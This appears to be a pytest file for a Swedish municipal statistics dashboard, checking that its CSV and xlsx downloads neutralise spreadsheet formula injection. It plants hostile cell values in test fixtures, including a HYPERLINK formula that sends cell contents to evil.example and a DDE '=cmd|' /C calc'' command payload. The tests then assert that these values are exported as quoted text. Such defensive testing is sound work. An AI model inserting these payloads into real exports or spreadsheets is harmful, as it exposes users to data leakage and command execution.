"""CSV injection (OWASP): upstream names and own-figures source lines that begin with a formula reach every CSV
download as text, never as a live formula; numbers stay numbers (issue 23).

A real refresh from the local fake Kolada (area names and KPI titles that start with `=HYPERLINK(…)`, `+`, `-`,
`@`) and a real own-figures file whose `källa` starts with `=`; then every page runs in AppTest and every CSV and
.xlsx its buttons offer is read back."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from etl.build import build_database
from etl.fetch import fetch_run
from etl.http import HttpPolicy
from etl.meeting_snapshot import create_snapshot
from indicators.catalogue import load_catalogue
from tests.apptest import run_app
from tests.kolada_server import KoladaTestServer, make_dataset
from tests.own_catalogue import catalogue_with_own_series
from views.meeting.tables import FORMULA_START, to_excel_csv, to_xlsx

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
OWN_SOURCE = '=HYPERLINK("http://evil.example/","Källa: Region Värmland")'
HEADER = "serie;område;år;kön;värde;källa;utgivare"
PAGES = ["app_pages/oversikt.py", "app_pages/livsskede.py", "app_pages/kommunprofil.py", "app_pages/indikator.py",
         "app_pages/metod.py", "app_pages/nytt_sedan.py"]


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data directory built from hostile names: Karlstad is '=HYPERLINK(…)', other areas start with +, -, @;
    every KPI title starts with '=' after a second fetch (so "Nytt sedan" lists the changed titles and values)."""
    root = tmp_path_factory.mktemp("hostile")
    cat = catalogue_with_own_series(root / "catalogue")
    mp = pytest.MonkeyPatch()
    mp.setenv("NP_CATALOGUE_DIR", str(cat))
    try:
        catalogue = load_catalogue()
        ds = make_dataset(catalogue, years=range(2018, 2025), seed=3)
        prefixes = {"1780": EVIL, "1715": "+46 Kil", "1784": "-Arvika", "1737": "@Torsby"}
        for m in ds.municipalities:
            if m["id"] in prefixes:
                m["title"] = prefixes[m["id"]]
        data = root / "data"
        (data / "egna").mkdir(parents=True)
        (data / "egna" / "besok.csv").write_text(
            f"{HEADER}\nbesok;1780;2023;T;10,5;{OWN_SOURCE};Karlstads kommun\n"
            f"besok;1780;2024;T;12,5;{OWN_SOURCE};Karlstads kommun\n", encoding="utf-8")
        with KoladaTestServer(ds) as srv:
            from core.settings import load_settings

            settings = load_settings(base_url=srv.base_url, data_dir=data)
            for sid in ("kolada", "egna"):
                fetch_run(settings, catalogue, mode="full", policy=HttpPolicy.fast(), source_id=sid)
            build_database(settings, catalogue)
            create_snapshot(settings, "Förra mötet")
            for kpi in list(ds.kpis):
                ds.set_kpi_field(kpi, "title", f"=cmd|' /C calc'!A0 {kpi}")
            kpi = catalogue.kpi_ids[0]
            ds.set_value(kpi, "1780", 2024, "T", -45.5)
            fetch_run(settings, catalogue, mode="full", policy=HttpPolicy.fast(), source_id="kolada")
            build_database(settings, catalogue)
    finally:
        mp.undo()
    return data


@pytest.fixture
def served(monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
    """Every file the app hands Streamlit's media store, by file id (AppTest makes a new store per run): the bytes
    a browser would download from the button's URL."""
    files: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):  # noqa: ANN001, ANN202
        file_id = original(self, path_or_data, mimetype, kind, filename)
        files[file_id] = path_or_data
        return file_id

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    # A file made on click (a callable, dashboard/downloads.py) is kept by the button's key: calling it is what the
    # server does when the browser asks for the file.
    import streamlit

    button = streamlit.download_button

    def record(label, data, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003, ANN202
        if callable(data) and kwargs.get("key"):
            files[f"key:{kwargs['key']}"] = data
        return button(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", record)
    return files


def _media(served: dict, button) -> bytes:  # noqa: ANN001
    made = served.get(f"key:{button.key}")
    if made is not None:
        body = made()
        return body.encode("utf-8") if isinstance(body, str) else body
    return served[button.proto.url.rsplit("/", 1)[-1].split(".")[0]]


NUMBER = re.compile(r"-?\d+(,\d+)?")  # what a number column writes (decimal comma): Excel reads it as a number


def _live_formulas(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]


def test_no_csv_or_xlsx_download_on_any_page_holds_a_live_formula(hostile_dir, served, monkeypatch):
    import streamlit as st

    from dashboard import data

    monkeypatch.setenv("NP_DATA_DIR", str(hostile_dir))
    monkeypatch.setenv("NP_CATALOGUE_DIR", str(hostile_dir.parent / "catalogue"))
    data.clear_caches()
    st.cache_data.clear()
    seen_csv, neutralised = 0, []
    for page in PAGES:
        for query in ({"kommun": "1780"}, {"kommun": "1780", "ind": "egna_besok"}):
            if "ind" in query and not page.endswith("indikator.py"):
                continue
            at = run_app(page=page, **query)
            for button in at.get("download_button"):
                if button.proto.disabled:
                    continue
                body = _media(served, button)
                if button.proto.label.startswith("Ladda ner CSV"):
                    seen_csv += 1
                    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
                    cells = [c for row in rows for c in row]
                    assert not _live_formulas(cells), (page, button.proto.label)
                    neutralised += [c for c in cells if c.startswith("'")]
                else:
                    with zipfile.ZipFile(io.BytesIO(body)) as z:
                        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
                    assert "<f>" not in sheet, page  # xlsx writes strings as strings: no formula element
    data.clear_caches()
    assert seen_csv >= 10  # every page's tables were downloaded
    assert any(c.startswith("'=HYPERLINK(\"http://evil.example/?\"") for c in neutralised)  # the area name
    assert any(c.startswith("'+46 Kil") or c.startswith("'-Arvika") or c.startswith("'@Torsby")
               for c in neutralised)
    assert any(c.startswith("'" + OWN_SOURCE) for c in neutralised)  # the own file's source line
    assert any(c.startswith("'=cmd|") for c in neutralised)  # a changed KPI title on "Nytt sedan"


def test_numbers_stay_numbers_and_every_formula_start_is_neutralised():
    df = pl.DataFrame({"Område": ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "Karlstad", None],
                       "Värde": [-45.5, 1.0, -2.0, 3.5, None, 0.0, 12.25, 1.0],
                       "År": [2024, 2023, -1, 2021, 2020, 2019, 2018, 2017]})
    rows = list(csv.reader(io.StringIO(to_excel_csv(df).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "Karlstad", ""]
    assert [r[1] for r in rows[1:]] == ["-45,5", "1,0", "-2,0", "3,5", "", "0,0", "12,25", "1,0"]
    assert rows[3][2] == "-1"  # a negative number is a number, not text
    back = pl.read_csv(io.BytesIO(to_excel_csv(df)), separator=";", decimal_comma=True)
    assert back["Värde"].dtype == pl.Float64 and back["År"].dtype == pl.Int64


def test_a_formula_header_is_neutralised_too():
    text = to_excel_csv(pl.DataFrame({"=Område": ["a"], "Värde": [1]})).decode("utf-8-sig")
    assert text.splitlines()[0] == "'=Område;Värde"
    assert b"<f>" not in to_xlsx(pl.DataFrame({"=x": ["=1+1"]}))
